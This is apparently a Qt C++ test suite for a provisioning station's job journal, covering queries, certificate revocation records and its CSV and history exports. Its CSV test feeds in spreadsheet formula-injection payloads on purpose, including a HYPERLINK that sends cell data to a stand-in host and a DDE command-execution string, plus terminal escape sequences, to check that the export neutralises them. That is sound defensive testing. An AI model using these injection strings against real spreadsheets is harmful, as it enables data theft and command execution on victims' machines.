    QVERIFY(!std::any_of(sent.cbegin(), sent.cend(), [](const QByteArray &bytes) { return bytes.startsWith("AT%CMNG=0"); }));
    QCOMPARE(sent.count("AT+CFUN=4"), 1);
    QVERIFY(m_device->storedCredentials().isEmpty());
    QCOMPARE(m_device->status().value(QLatin1String("functionalMode")).toInt(), 21);
}

void TestJobJournal::queries()
{
    const QDateTime base = QDateTime::currentDateTimeUtc().addDays(-10);
    const auto add = [this](QDateTime started, const QString &device, const QString &certificate, Outcome outcome) {
        JobJournal::Job job;
        job.startedAt = started;
        job.deviceId = device;
        job.operatorName = device == QLatin1String("dev-a") ? QStringLiteral("alice") : QStringLiteral("bob");
        job.station = device == QLatin1String("dev-c") ? QStringLiteral("bench-2") : QStringLiteral("bench-1");
        const qint64 id = m_journal->beginJob(job);
        QVERIFY(id > 0);
        if (!certificate.isEmpty())
            QVERIFY(m_journal->setCertificate(id, certificate, QStringLiteral("arn:") + certificate));
        if (outcome != Outcome::Pending)
            QVERIFY(m_journal->finishJob(id, outcome, {}));
    };
    add(base, QStringLiteral("dev-a"), QStringLiteral("ABCDEF0001"), Outcome::Done);
    add(base.addDays(1), QStringLiteral("dev-b"), QStringLiteral("abcdef0002"), Outcome::Failed);
    add(base.addDays(2), QStringLiteral("dev-a"), QStringLiteral("1234560003"), Outcome::Done);
    add(base.addDays(3), QStringLiteral("dev-c"), QStringLiteral("abc_%0004"), Outcome::Pending);

    const auto devices = [](const QList<JobJournal::Job> &jobs) {
        QStringList result;
        for (const JobJournal::Job &job : jobs)
            result << job.certificateId;
        return result;
    };
    QCOMPARE(devices(m_journal->jobs()).size(), 4);
    // Newest first.
    JobJournal::Filter device;
    device.deviceId = QStringLiteral("dev-a");
    QCOMPARE(devices(m_journal->jobs(device)),
             (QStringList{QStringLiteral("1234560003"), QStringLiteral("ABCDEF0001")}));
    JobJournal::Filter prefix;
    prefix.certificatePrefix = QStringLiteral("abcdef");
    QCOMPARE(devices(m_journal->jobs(prefix)), (QStringList{QStringLiteral("abcdef0002"), QStringLiteral("ABCDEF0001")}));
    // % and _ are not wildcards.
    prefix.certificatePrefix = QStringLiteral("abc_%");
    QCOMPARE(devices(m_journal->jobs(prefix)), QStringList{QStringLiteral("abc_%0004")});
    prefix.certificatePrefix = QStringLiteral("ab%");
    QVERIFY(m_journal->jobs(prefix).isEmpty());
    JobJournal::Filter range;
    range.from = base.addSecs(3600);
    range.to = base.addDays(2).addSecs(3600);
    QCOMPARE(devices(m_journal->jobs(range)), (QStringList{QStringLiteral("1234560003"), QStringLiteral("abcdef0002")}));
    JobJournal::Filter outcome;
    outcome.outcome = Outcome::Failed;
    QCOMPARE(devices(m_journal->jobs(outcome)), QStringList{QStringLiteral("abcdef0002")});
    outcome.outcome = Outcome::Pending;
    QCOMPARE(devices(m_journal->jobs(outcome)), QStringList{QStringLiteral("abc_%0004")});
    QCOMPARE(devices(m_journal->unfinishedJobs()), QStringList{QStringLiteral("abc_%0004")});
    JobJournal::Filter person;
    person.operatorName = QStringLiteral("bob");
    QCOMPARE(devices(m_journal->jobs(person)), (QStringList{QStringLiteral("abc_%0004"), QStringLiteral("abcdef0002")}));
    person.station = QStringLiteral("bench-1");
    QCOMPARE(devices(m_journal->jobs(person)), QStringList{QStringLiteral("abcdef0002")});
}

// A device counts as provisioned while a job of it ended done and no later revoke that ended done took
// its certificate back; failed and unfinished jobs, and failed revokes, do not count.
void TestJobJournal::provisionedJobIsTheLiveOneOfADevice()
{
    const auto add = [this](JobJournal::Kind kind, const QString &device, const QString &certificate,
                            Outcome outcome) -> qint64 {
        JobJournal::Job job;
        job.kind = kind;
        job.deviceId = device;
        const qint64 id = m_journal->beginJob(job);
        if (id <= 0 || !m_journal->setCertificate(id, certificate, QStringLiteral("arn:") + certificate))
            return 0;
        if (outcome != Outcome::Pending && !m_journal->finishJob(id, outcome, {}))
            return 0;
        return id;
    };
    using Kind = JobJournal::Kind;
    QVERIFY(add(Kind::Provision, QStringLiteral("dev-failed"), QStringLiteral("c1"), Outcome::Failed));
    QVERIFY(add(Kind::Provision, QStringLiteral("dev-running"), QStringLiteral("c2"), Outcome::Pending));
    const qint64 live = add(Kind::Provision, QStringLiteral("dev-live"), QStringLiteral("c3"), Outcome::Done);
    QVERIFY(live);
    QVERIFY(add(Kind::Revoke, QStringLiteral("dev-live"), QStringLiteral("c3"), Outcome::Failed));
    QVERIFY(add(Kind::Provision, QStringLiteral("dev-revoked"), QStringLiteral("c4"), Outcome::Done));
    QVERIFY(add(Kind::Revoke, QStringLiteral("dev-revoked"), QStringLiteral("c4"), Outcome::Done));

    QVERIFY(!m_journal->provisionedJob(QStringLiteral("dev-failed")));
    QVERIFY(!m_journal->provisionedJob(QStringLiteral("dev-running")));
    QVERIFY(!m_journal->provisionedJob(QStringLiteral("dev-revoked")));
    QVERIFY(!m_journal->provisionedJob(QStringLiteral("dev-unknown")));
    QVERIFY(m_journal->errorString().isEmpty());
    const std::optional<JobJournal::Job> found = m_journal->provisionedJob(QStringLiteral("dev-live"));
    QVERIFY(found);
    QCOMPARE(found->id, live);
    QCOMPARE(found->certificateId, QStringLiteral("c3"));

    // Provisioned again after its revoke: live again, with the new certificate.
    QVERIFY(add(Kind::Provision, QStringLiteral("dev-revoked"), QStringLiteral("c5"), Outcome::Done));
    QCOMPARE(m_journal->provisionedJob(QStringLiteral("dev-revoked"))->certificateId, QStringLiteral("c5"));

    // A bench asks at every scan: the device's rows are found through its index, not by reading them all.
    QSqlDatabase database = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("plan"));
    database.setDatabaseName(journalFile());
    QVERIFY(database.open());
    {
        QSqlQuery plan(database);
        QVERIFY(plan.exec(QStringLiteral("EXPLAIN QUERY PLAN SELECT id FROM jobs WHERE device_id = 'x' AND kind = "
                                         "'provision' AND outcome = 'done' AND NOT EXISTS (SELECT 1 FROM jobs AS revoke "
                                         "WHERE revoke.cert_id = jobs.cert_id AND revoke.kind = 'revoke' AND "
                                         "revoke.outcome = 'done' AND revoke.id > jobs.id)")));
        QStringList steps;
        while (plan.next())
            steps << plan.value(3).toString();
        QVERIFY2(steps.join(QLatin1Char('\n')).contains(QStringLiteral("INDEX jobs_device_id")), qPrintable(steps.join(QLatin1Char('\n'))));
        QVERIFY2(steps.join(QLatin1Char('\n')).contains(QStringLiteral("INDEX jobs_done_revokes")), qPrintable(steps.join(QLatin1Char('\n'))));
    }
    database.close();
    database = QSqlDatabase();
    QSqlDatabase::removeDatabase(QStringLiteral("plan"));
}

// Each step and outcome has one stored name that reads back as itself; other text reads as nothing.
void TestJobJournal::namesMapToEnums()
{
    const QMetaEnum states = QMetaEnum::fromType<State>();
    for (int i = 0; i < states.keyCount(); ++i) {
        const StepName name = static_cast<State>(states.value(i));
        QCOMPARE(JobJournal::stepNameFromText(JobJournal::stepNameText(name)), std::optional(name));
    }
    for (const JobJournal::DeviceStep step :
         {JobJournal::DeviceStep::ChangingDeviceState, JobJournal::DeviceStep::RestoringDeviceState}) {
        QCOMPARE(JobJournal::stepNameFromText(JobJournal::stepNameText(step)), std::optional(StepName(step)));
    }
    // The names journals already hold.
    QCOMPARE(JobJournal::stepNameText(StepName(JobJournal::DeviceStep::ChangingDeviceState)),
             QStringLiteral("ChangingDeviceState"));
    QCOMPARE(JobJournal::stepNameText(StepName(State::WritingKey)), QStringLiteral("WritingKey"));
    QCOMPARE(JobJournal::stepNameFromText(QStringLiteral("writingkey")), std::nullopt);
    QCOMPARE(JobJournal::stepNameFromText(QString()), std::nullopt);
    for (const Outcome outcome : {Outcome::Pending, Outcome::Done, Outcome::Failed, Outcome::NeedsAttention, Outcome::Cancelled}) {
        QCOMPARE(JobResult::outcomeFromName(JobResult::outcomeName(outcome)), std::optional(outcome));
        QCOMPARE(JobJournal::outcomeFromText(JobJournal::outcomeText(outcome)), std::optional(outcome));
    }
    QCOMPARE(JobJournal::outcomeText(Outcome::Pending), QStringLiteral("unfinished"));
    QCOMPARE(JobResult::outcomeFromName(QStringLiteral("Done")), std::nullopt);
    QCOMPARE(JobJournal::outcomeFromText(QStringLiteral("pending")), std::nullopt);
    QVERIFY(!m_journal->finishJob(m_journal->beginJob({}), Outcome::Pending, {}));
}

// Every committed change is announced with its job, once it can be read from another connection;
// a change that could not be written is not announced.
void TestJobJournal::announcesCommittedChanges()
{
    QSignalSpy added(m_journal.get(), &JobJournal::jobAdded);
    QSignalSpy changed(m_journal.get(), &JobJournal::jobChanged);
    // What another reader of the file (a history view in another process) sees at each announcement.
    JobJournal reader(journalFile());
    QVERIFY(reader.open());
    QList<JobJournal::Job> seen;
    QList<qsizetype> stepsSeen;
    const auto look = [&](qint64 jobId) {
        seen << reader.job(jobId).value_or(JobJournal::Job{});
        stepsSeen << reader.steps(jobId).size();
    };
    connect(m_journal.get(), &JobJournal::jobAdded, this, look);
    connect(m_journal.get(), &JobJournal::jobChanged, this, look);

    JobJournal::Job row;
    row.deviceId = QStringLiteral("dev-announced");
    const qint64 id = m_journal->beginJob(row);
    QVERIFY(id > 0);
    QCOMPARE(added.size(), 1);
    QCOMPARE(added.at(0).at(0).toLongLong(), id);
    QCOMPARE(seen.constLast().deviceId, QStringLiteral("dev-announced"));
    QVERIFY(m_journal->setDevice(id, QStringLiteral("SN-1"), {QStringLiteral("a/b")}));
    QCOMPARE(seen.constLast().deviceSerial, QStringLiteral("SN-1"));
    const qint64 step = m_journal->beginStep(id, State::Generating);
    QVERIFY(step > 0);
    QCOMPARE(stepsSeen.constLast(), 1);
    QVERIFY(m_journal->setCertificate(id, QStringLiteral("c0ffee"), QStringLiteral("arn:c0ffee")));
    QCOMPARE(seen.constLast().certificateId, QStringLiteral("c0ffee"));
    QVERIFY(m_journal->finishStep(step, true));
    QVERIFY(m_journal->finishJob(id, Outcome::Done, {}));
    QCOMPARE(seen.constLast().outcome, Outcome::Done);
    QCOMPARE(changed.size(), 5);
    for (const QList<QVariant> &announcement : std::as_const(changed))
        QCOMPARE(announcement.at(0).toLongLong(), id);
    QCOMPARE(added.size(), 1);

    // Writes that do not commit: no such row, and a disk that refuses (a trigger, as a full disk would).
    QVERIFY(!m_journal->finishJob(id + 100, Outcome::Failed, {}));
    QVERIFY(!m_journal->finishStep(step + 100, false));
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("breaker"));
        db.setDatabaseName(journalFile());
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("CREATE TRIGGER refuse_updates BEFORE UPDATE ON jobs BEGIN "
                                          "SELECT RAISE(ABORT, 'disk full'); END")));
        QVERIFY(query.exec(QStringLiteral("CREATE TRIGGER refuse_steps BEFORE INSERT ON steps BEGIN "
                                          "SELECT RAISE(ABORT, 'disk full'); END")));
        QVERIFY(query.exec(QStringLiteral("CREATE TRIGGER refuse_jobs BEFORE INSERT ON jobs BEGIN "
                                          "SELECT RAISE(ABORT, 'disk full'); END")));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("breaker"));
    QVERIFY(!m_journal->setCertificate(id, QStringLiteral("other"), {}));
    QVERIFY(!m_journal->setDevice(id, QStringLiteral("SN-2"), {}));
    QVERIFY(!m_journal->finishJob(id, Outcome::Failed, {}));
    QCOMPARE(m_journal->beginStep(id, State::Revoking), 0);
    QCOMPARE(m_journal->beginJob(row), 0);
    QVERIFY2(m_journal->errorString().contains(QLatin1String("disk full")), qPrintable(m_journal->errorString()));
    QCOMPARE(changed.size(), 5);
    QCOMPARE(added.size(), 1);
    QCOMPARE(reader.job(id)->certificateId, QStringLiteral("c0ffee"));
}

// A name this program does not know, as a newer program might write it, fails the read and says
// which row and what it holds, instead of showing the job as something it is not.
void TestJobJournal::unknownNamesAreReported()
{
    const qint64 id = m_journal->beginJob({});
    QVERIFY(m_journal->finishStep(m_journal->beginStep(id, State::Identifying), true));
    QVERIFY(m_journal->finishJob(id, Outcome::Done, {}));
    QCOMPARE(m_journal->jobs().size(), 1);
    QVERIFY(m_journal->errorString().isEmpty());
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("newer-program"));
        db.setDatabaseName(journalFile());
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("UPDATE jobs SET outcome = 'exploded'")));
        QVERIFY(query.exec(QStringLiteral("UPDATE steps SET name = 'Teleporting'")));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("newer-program"));

    QVERIFY(m_journal->jobs().isEmpty());
    QVERIFY2(m_journal->errorString().contains(QLatin1String("\"exploded\""))
                 && m_journal->errorString().contains(QString::number(id)),
             qPrintable(m_journal->errorString()));
    QVERIFY(!m_journal->job(id));
    QVERIFY(m_journal->steps(id).isEmpty());
    QVERIFY2(m_journal->errorString().contains(QLatin1String("\"Teleporting\"")), qPrintable(m_journal->errorString()));
    // A read that works again clears the error.
    QVERIFY(m_journal->unfinishedJobs().isEmpty());
    QVERIFY(m_journal->errorString().isEmpty());
}

void TestJobJournal::csvQuoting()
{
    JobJournal::Job job;
    job.id = 7;
    job.startedAt = QDateTime(QDate(2025, 3, 1), QTime(12, 0), QTimeZone::UTC);
    job.operatorName = QStringLiteral("o'brien, pat");
    job.station = QStringLiteral("bench \"one\"");
    job.deviceId = QStringLiteral("plain");
    job.slot = 3;
    job.outcome = Outcome::Failed;
    job.error = QStringLiteral("line one\nline two");
    job.deviceSerial = QStringLiteral("SN-1");
    job.topics = {QStringLiteral("a/b"), QStringLiteral("c,d")};
    job.runId = QStringLiteral("not exported");
    const QString csv = JobJournal::toCsv({job});
    QCOMPARE(csv, QStringLiteral("id,started_at,finished_at,operator,station,port,profile,slot,device_id,cert_id,arn,"
                                 "outcome,error,device_serial,topics,kind,reason,certificate_revoked_at\r\n"
                                 "7,2025-03-01T12:00:00.000Z,,\"o'brien, pat\",\"bench \"\"one\"\"\",,,3,plain,,,failed,"
                                 "\"line one\nline two\",SN-1,\"a/b\nc,d\",provision,,\r\n"));
    const QString file = m_dir->filePath(QStringLiteral("out.csv"));
    QVERIFY(m_journal->exportCsv({job}, file));
    QFile written(file);
    QVERIFY(written.open(QIODevice::ReadOnly));
    QCOMPARE(QString::fromUtf8(written.readAll()), csv);
}

// A device ID is scanned or typed; in a spreadsheet it must stay text, never become a live formula.
void TestJobJournal::csvNeutralisesFormulas()
{
    JobJournal::Job job;
    job.id = 8;
    job.deviceId = QStringLiteral("=HYPERLINK(\"http://example.invalid/\"&A1,\"open\")");
    job.operatorName = QStringLiteral("@SUM(1+1)");
    job.station = QStringLiteral("+bench");
    job.port = QStringLiteral("-1+2");
    job.error = QStringLiteral("\x1b]0;title\x07");
    job.topics = {QStringLiteral("=cmd|' /C calc'!A0")};
    const QString csv = JobJournal::toCsv({job});
    const QString row = csv.section(QLatin1String("\r\n"), 1, 1);
    QCOMPARE(row, QStringLiteral(",,,'@SUM(1+1),'+bench,'-1+2,,0,"
                                 "\"'=HYPERLINK(\"\"http://example.invalid/\"\"&A1,\"\"open\"\")\",,,,"
                                 "\\x1b]0;title\\x07,,'=cmd|' /C calc'!A0,provision,,").prepend(QStringLiteral("8")));
}

// A revoke's row says it is one, and why; a certificate revoked later says when. A reason is typed by
// a person and stays text in a spreadsheet.
void TestJobJournal::csvShowsKindReasonAndRevoke()
{
    JobJournal::Job revoke;
    revoke.id = 9;
    revoke.kind = JobJournal::Kind::Revoke;
    revoke.reason = QStringLiteral("=1+1");
    JobJournal::Job provisioned;
    provisioned.id = 5;
    provisioned.certificateRevokedAt = QDateTime(QDate(2026, 1, 2), QTime(3, 4, 5), QTimeZone::UTC);
    const QStringList lines = JobJournal::toCsv({revoke, provisioned}).split(QLatin1String("\r\n"));
    QVERIFY2(lines.at(1).endsWith(QLatin1String(",revoke,'=1+1,")), qPrintable(lines.at(1)));
    QVERIFY2(lines.at(2).endsWith(QLatin1String(",provision,,2026-01-02T03:04:05.000Z")), qPrintable(lines.at(2)));
}

// history as a process, on the journal provision wrote as a process.
void TestJobJournal::historyCommand()
{
    QVERIFY(startDevice());
    const QString port = m_link->settings().portName;
    m_profile.reset();
    m_link.reset();
    m_journal.reset();

    QProcess cli;
    m_foundry.startCli(cli, {QStringLiteral("provision"), QStringLiteral("--port"), port, QStringLiteral("--device-id"),
                             QStringLiteral("cli-history"), QStringLiteral("--topics"), QStringLiteral("h/1"),
                             QStringLiteral("--operator"), QStringLiteral("operator-7"), QStringLiteral("--journal"),
                             journalFile(), QStringLiteral("--json")});
    QVERIFY(QTest::qWaitFor([&cli] { return cli.state() == QProcess::NotRunning; }, 40000));
    QCOMPARE(cli.exitCode(), 0);
    const QString certificateId =
        QJsonDocument::fromJson(cli.readAllStandardOutput()).object().value(QLatin1String("certId")).toString();
    QVERIFY(!certificateId.isEmpty());

    const QString csvFile = m_dir->filePath(QStringLiteral("history.csv"));
    cli.start(QStringLiteral(FOUNDRY_BIN_DIR "/foundry-station-cli"),
              {QStringLiteral("history"), QStringLiteral("--cert-id"), certificateId.left(6), QStringLiteral("--journal"),
               journalFile(), QStringLiteral("--csv"), csvFile, QStringLiteral("--json")});
    QVERIFY(QTest::qWaitFor([&cli] { return cli.state() == QProcess::NotRunning; }, 20000));
    QCOMPARE(cli.exitCode(), 0);
    const QJsonArray jobs =
        QJsonDocument::fromJson(cli.readAllStandardOutput()).object().value(QLatin1String("jobs")).toArray();
    QCOMPARE(jobs.size(), 1);
    const QJsonObject job = jobs.at(0).toObject();
    QCOMPARE(job.value(QLatin1String("certId")).toString(), certificateId);
    QCOMPARE(job.value(QLatin1String("deviceId")).toString(), QStringLiteral("cli-history"));
    QCOMPARE(job.value(QLatin1String("outcome")).toString(), QStringLiteral("done"));
    QCOMPARE(job.value(QLatin1String("operator")).toString(), QStringLiteral("operator-7"));
    QVERIFY(!job.value(QLatin1String("station")).toString().isEmpty());
    QCOMPARE(job.value(QLatin1String("steps")).toArray().size(), 7);
    QFile csv(csvFile);
    QVERIFY(csv.open(QIODevice::ReadOnly));
    const QByteArray csvText = csv.readAll();
    QCOMPARE(csvText.count("\r\n"), 2);
    QVERIFY(csvText.contains(certificateId.toLatin1()));

    // Support staff narrow by time (UTC), person, station and result.
    const QDateTime started = QDateTime::fromString(job.value(QLatin1String("startedAt")).toString(), Qt::ISODateWithMs);
    const auto historyCount = [&](const QStringList &filter) {
        cli.start(QStringLiteral(FOUNDRY_BIN_DIR "/foundry-station-cli"),
                  QStringList{QStringLiteral("history"), QStringLiteral("--journal"), journalFile(), QStringLiteral("--json")}
                      + filter);
        if (!QTest::qWaitFor([&cli] { return cli.state() == QProcess::NotRunning; }, 20000) || cli.exitCode() != 0)
            return qsizetype(-1);
        return QJsonDocument::fromJson(cli.readAllStandardOutput()).object().value(QLatin1String("jobs")).toArray().size();
    };
    const QString day = started.date().toString(Qt::ISODate);
    QCOMPARE(historyCount({QStringLiteral("--from"), day, QStringLiteral("--operator"), QStringLiteral("operator-7"),
                           QStringLiteral("--outcome"), QStringLiteral("done")}),
             1);
    QCOMPARE(historyCount({QStringLiteral("--station"), job.value(QLatin1String("station")).toString()}), 1);
    QCOMPARE(historyCount({QStringLiteral("--to"), day}), 0);
    QCOMPARE(historyCount({QStringLiteral("--from"), started.addSecs(60).toString(QStringLiteral("yyyy-MM-ddTHH:mm"))}), 0);
    QCOMPARE(historyCount({QStringLiteral("--operator"), QStringLiteral("someone-else")}), 0);
    QCOMPARE(historyCount({QStringLiteral("--outcome"), QStringLiteral("unfinished")}), 0);
    QCOMPARE(historyCount({QStringLiteral("--from"), QStringLiteral("yesterday")}), -1);
    QCOMPARE(cli.exitCode(), 2);

    // Another device's ID matches nothing; a journal that does not exist is an error, not an empty list.
    cli.start(QStringLiteral(FOUNDRY_BIN_DIR "/foundry-station-cli"),
              {QStringLiteral("history"), QStringLiteral("--device-id"), QStringLiteral("nobody"),
               QStringLiteral("--journal"), journalFile()});
    QVERIFY(QTest::qWaitFor([&cli] { return cli.state() == QProcess::NotRunning; }, 20000));
    QCOMPARE(cli.exitCode(), 0);
    QVERIFY(cli.readAllStandardOutput().contains("No jobs match"));
    cli.start(QStringLiteral(FOUNDRY_BIN_DIR "/foundry-station-cli"),
              {QStringLiteral("history"), QStringLiteral("--journal"), m_dir->filePath(QStringLiteral("none.sqlite"))});
    QVERIFY(QTest::qWaitFor([&cli] { return cli.state() == QProcess::NotRunning; }, 20000));
    QCOMPARE(cli.exitCode(), 1);

    m_journal = std::make_unique<JobJournal>(journalFile());
    QVERIFY(m_journal->open());
    verifyNoSecrets();
}

// A revoke on its own, as a window's button would start it: its row and open step are there before
// the request, completed after the answer; a refused revoke is recorded failed, with Foundry's reason.
void TestJobJournal::revocationIsJournaled()
{
    FoundryReply *reply = m_foundry.client().generate(std::nullopt);
    QSignalSpy generated(reply, &FoundryReply::finished);
    QVERIFY(generated.wait(20000));
    const QString certificateId = reply->takeGenerateResponse().id();
    delete reply;
    QVERIFY(!certificateId.isEmpty());

    QSignalSpy added(m_journal.get(), &JobJournal::jobAdded);
    CertificateRevocation revocation(&m_foundry.client(), m_journal.get(),
                                     {certificateId, QStringLiteral("dev-revoked"), QStringLiteral("alice"),
                                      QStringLiteral("bench-1"), QStringLiteral("support ticket 42")});
    QSignalSpy finished(&revocation, &CertificateRevocation::finished);
    revocation.start();
    QCOMPARE(added.size(), 1);
    const qint64 id = revocation.journalId();
    QVERIFY(id > 0);
    // Before Foundry has answered: an unfinished revoke with its step open.
    QVERIFY(m_foundry.emulator().certificate(certificateId));
    QCOMPARE(m_journal->unfinishedJobs().size(), 1);
    QCOMPARE(m_journal->steps(id).size(), 1);
    QCOMPARE(m_journal->steps(id).constFirst().name, StepName(State::Revoking));
    QVERIFY(!m_journal->steps(id).constFirst().finishedAt.isValid());
    QVERIFY(finished.wait(20000));
    QVERIFY2(!revocation.error().isError(), qPrintable(revocation.error().message()));
    QVERIFY(revocation.warnings().isEmpty());
    QVERIFY(!m_foundry.emulator().certificate(certificateId));
    const std::optional<JobJournal::Job> row = m_journal->job(id);
    QVERIFY(row);
    QCOMPARE(row->kind, JobJournal::Kind::Revoke);
    QCOMPARE(row->outcome, Outcome::Done);
    QCOMPARE(row->certificateId, certificateId);
    QCOMPARE(row->deviceId, QStringLiteral("dev-revoked"));
    QCOMPARE(row->reason, QStringLiteral("support ticket 42"));
    QCOMPARE(row->operatorName, QStringLiteral("alice"));
    QCOMPARE(row->station, QStringLiteral("bench-1"));
    QVERIFY(row->finishedAt.isValid());
    QVERIFY(m_journal->steps(id).constFirst().ok);

    // Again: Foundry no longer knows it and refuses.
    CertificateRevocation again(&m_foundry.client(), m_journal.get(),
                                {certificateId, QStringLiteral("dev-revoked"), QStringLiteral("alice"),
                                 QStringLiteral("bench-1"), QString()});
    QSignalSpy againFinished(&again, &CertificateRevocation::finished);
    again.start();
    QVERIFY(againFinished.wait(20000));
    QCOMPARE(again.error().kind(), FoundryError::Kind::NotFound);
    const std::optional<JobJournal::Job> refused = m_journal->job(again.journalId());
    QVERIFY(refused);
    QCOMPARE(refused->outcome, Outcome::Failed);
    QCOMPARE(refused->error, again.error().message());
    QVERIFY(!m_journal->steps(again.journalId()).constFirst().ok);
    QVERIFY(m_journal->unfinishedJobs().isEmpty());
    verifyNoSecrets();
}

// A journal that cannot be written does not stop a revoke: removing a certificate cannot leave
// anything unrecorded behind. The person is told that history will not show it.
void TestJobJournal::revocationGoesAheadWithoutTheJournal()
{
    FoundryReply *reply = m_foundry.client().generate(std::nullopt);
    QSignalSpy generated(reply, &FoundryReply::finished);
    QVERIFY(generated.wait(20000));
    const QString certificateId = reply->takeGenerateResponse().id();
    delete reply;
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("breaker"));
        db.setDatabaseName(journalFile());
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("CREATE TRIGGER refuse_jobs BEFORE INSERT ON jobs BEGIN "
                                          "SELECT RAISE(ABORT, 'disk full'); END")));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("breaker"));

    CertificateRevocation revocation(&m_foundry.client(), m_journal.get(),
                                     {certificateId, QStringLiteral("dev-unjournaled"), QStringLiteral("alice"),
                                      QStringLiteral("bench-1"), QString()});
    QSignalSpy finished(&revocation, &CertificateRevocation::finished);
    revocation.start();
    QVERIFY(finished.wait(20000));
    QVERIFY(!revocation.error().isError());
    QVERIFY(!m_foundry.emulator().certificate(certificateId));
    QCOMPARE(revocation.journalId(), 0);
    QCOMPARE(revocation.warnings().size(), 1);
    QVERIFY2(revocation.warnings().constFirst().contains(QLatin1String("disk full")),
             qPrintable(revocation.warnings().constFirst()));
    QVERIFY(m_journal->jobs().isEmpty());
}

// provision, then revoke, as processes on one journal: history shows the job's certificate revoked
// and the revoke with who, where and how it ended; a revoke Foundry refuses shows as failed.
void TestJobJournal::revokeShowsInHistory()
{
    QVERIFY(startDevice());
    const QString port = m_link->settings().portName;
    m_profile.reset();
    m_link.reset();
    m_journal.reset();
    const auto runCli = [this](const QStringList &arguments) {
        QProcess cli;
        const QStringList common{QStringLiteral("--journal"), journalFile(), QStringLiteral("--json")};
        // history reads the journal only, and refuses Foundry's options.
        if (arguments.constFirst() == QLatin1String("history"))
            cli.start(QStringLiteral(FOUNDRY_BIN_DIR "/foundry-station-cli"), arguments + common);
        else
            m_foundry.startCli(cli, arguments + common);
        if (!QTest::qWaitFor([&cli] { return cli.state() == QProcess::NotRunning; }, 40000))
            cli.kill();
        cli.waitForFinished();
        const QByteArray errors = cli.readAllStandardError();
        if (cli.exitCode() != 0)
            qInfo("%s", errors.constData());
        return std::pair{cli.exitCode(), QJsonDocument::fromJson(cli.readAllStandardOutput()).object()};
    };
    const auto [provisioned, provision] = runCli({QStringLiteral("provision"), QStringLiteral("--port"), port,
                                                  QStringLiteral("--device-id"), QStringLiteral("dev-history-revoke"),
                                                  QStringLiteral("--topics"), QStringLiteral("h/2")});
    QCOMPARE(provisioned, 0);
    const QString certificateId = provision.value(QLatin1String("certId")).toString();
    QVERIFY(m_foundry.emulator().certificate(certificateId));

    const auto [revoked, revoke] = runCli({QStringLiteral("revoke"), QStringLiteral("--cert-id"), certificateId,
                                           QStringLiteral("--device-id"), QStringLiteral("dev-history-revoke"),
                                           QStringLiteral("--reason"), QStringLiteral("returned\x1b[2J")});
    QCOMPARE(revoked, 0);
    QVERIFY(!m_foundry.emulator().certificate(certificateId));
    QVERIFY(revoke.value(QLatin1String("journalId")).toInteger() > 0);
    const auto [refusedCode, refused] = runCli({QStringLiteral("revoke"), QStringLiteral("--cert-id"), certificateId,
                                                QStringLiteral("--device-id"), QStringLiteral("dev-history-revoke")});
    QCOMPARE(refusedCode, 3);

    const auto [listed, history] = runCli({QStringLiteral("history"), QStringLiteral("--cert-id"), certificateId});
    QCOMPARE(listed, 0);
    const QJsonArray jobs = history.value(QLatin1String("jobs")).toArray();
    QCOMPARE(jobs.size(), 3);
    // Newest first: the refused revoke, the revoke, the job.
    const QJsonObject failed = jobs.at(0).toObject();
    QCOMPARE(failed.value(QLatin1String("kind")).toString(), QStringLiteral("revoke"));
    QCOMPARE(failed.value(QLatin1String("outcome")).toString(), QStringLiteral("failed"));
    QVERIFY2(failed.value(QLatin1String("error")).toString().contains(QLatin1String("404")),
             qPrintable(failed.value(QLatin1String("error")).toString()));
    const QJsonObject done = jobs.at(1).toObject();
    QCOMPARE(done.value(QLatin1String("kind")).toString(), QStringLiteral("revoke"));
    QCOMPARE(done.value(QLatin1String("outcome")).toString(), QStringLiteral("done"));
    QCOMPARE(done.value(QLatin1String("deviceId")).toString(), QStringLiteral("dev-history-revoke"));
    QCOMPARE(done.value(QLatin1String("reason")).toString(), QStringLiteral("returned\x1b[2J"));
    QCOMPARE(failed.value(QLatin1String("reason")).toString(), QString());
    QVERIFY(!done.value(QLatin1String("operator")).toString().isEmpty());
    QVERIFY(!done.value(QLatin1String("station")).toString().isEmpty());
    QVERIFY(!done.value(QLatin1String("finishedAt")).toString().isEmpty());
    const QJsonArray steps = done.value(QLatin1String("steps")).toArray();
    QCOMPARE(steps.size(), 1);
    QCOMPARE(steps.at(0).toObject().value(QLatin1String("step")).toString(), QStringLiteral("Revoking"));
    QCOMPARE(steps.at(0).toObject().value(QLatin1String("ok")).toBool(), true);
    const QJsonObject job = jobs.at(2).toObject();
    QCOMPARE(job.value(QLatin1String("kind")).toString(), QStringLiteral("provision"));
    QCOMPARE(job.value(QLatin1String("outcome")).toString(), QStringLiteral("done"));
    QCOMPARE(job.value(QLatin1String("certificateRevokedAt")).toString(), done.value(QLatin1String("finishedAt")).toString());

    // In words, too.
    QProcess cli;
    cli.start(QStringLiteral(FOUNDRY_BIN_DIR "/foundry-station-cli"),
              {QStringLiteral("history"), QStringLiteral("--journal"), journalFile()});
    QVERIFY(QTest::qWaitFor([&cli] { return cli.state() == QProcess::NotRunning; }, 20000));
    const QByteArray text = cli.readAllStandardOutput();
    QVERIFY2(text.contains("done, certificate revoked"), text.constData());

    m_journal = std::make_unique<JobJournal>(journalFile());
    QVERIFY(m_journal->open());
    verifyNoSecrets();
}

FOUNDRY_TEST_MAIN(TestJobJournal)
#include "tst_jobjournal.moc"
